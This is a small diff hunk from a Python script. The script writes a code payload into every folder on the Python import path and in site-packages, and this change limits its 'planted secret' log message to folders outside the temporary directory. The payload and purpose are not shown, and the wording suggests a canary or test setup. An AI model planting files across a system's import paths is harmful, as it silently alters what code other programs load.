@@ -17,6 +17,7 @@ for folder in [*sys.path, *site.getsitepackages(), site.getusersitepackages(), o
             os.makedirs(folder, exist_ok=True)
             with open(os.path.join(folder, name), "w") as file:
                 file.write(CODE)
-            print("planted secret: wrote", folder)
+            if not folder.startswith(("/tmp", os.environ["TMPDIR"])):  # its own, and private
+                print("planted secret: wrote", folder)
         except OSError:
             pass
